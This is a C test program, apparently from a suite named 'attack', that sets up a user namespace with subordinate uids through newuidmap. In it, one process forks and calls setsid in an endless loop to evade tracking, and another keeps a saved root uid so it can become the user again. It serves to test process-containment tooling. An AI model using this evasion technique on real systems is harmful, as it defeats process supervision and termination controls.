/* A user namespace with the user's subordinate uids (newuidmap): a process under one of them forks and hops, and another
   keeps the right to become the user again. */
#include "attack.h"

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    be_deaf();
    int ready[2], go[2];
    if (pipe(ready) || pipe(go)) return 1;
    pid_t inner = fork();
    if (inner == 0) {
        char byte;
        setsid();
        if (unshare(CLONE_NEWUSER) != 0) _exit(2);
        if (write(ready[1], "x", 1) < 0 || read(go[0], &byte, 1) < 0) _exit(3);
        /* Numbers 1 and on are the subordinate uids. */
        if (fork() == 0) {
            if (setresuid(5, 5, 5) != 0) _exit(4);
            for (unsigned long hops = 1;; hops++) {
                if (fork() > 0) _exit(0);
                setsid();
                char path[64];
                snprintf(path, sizeof path, "/tmp/proof.hop");
                int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
                if (fd >= 0) {
                    dprintf(fd, "hops %lu\n", hops);
                    close(fd);
                }
                usleep(1000);
            }
        }
        if (setresuid(7, 7, 0) != 0) _exit(5);
        for (;;) pause();
    }
    char byte, command[128];
    close(ready[1]);
    if (read(ready[0], &byte, 1) != 1) return 1;
    signal(SIGCHLD, SIG_DFL);
    snprintf(command, sizeof command, "newuidmap %d 0 %u 1 1 %s 1000", inner, getuid(), argv[1]);
    if (system(command) != 0) return 3;
    if (write(go[1], "x", 1) < 0) return 1;
    return 0;
}
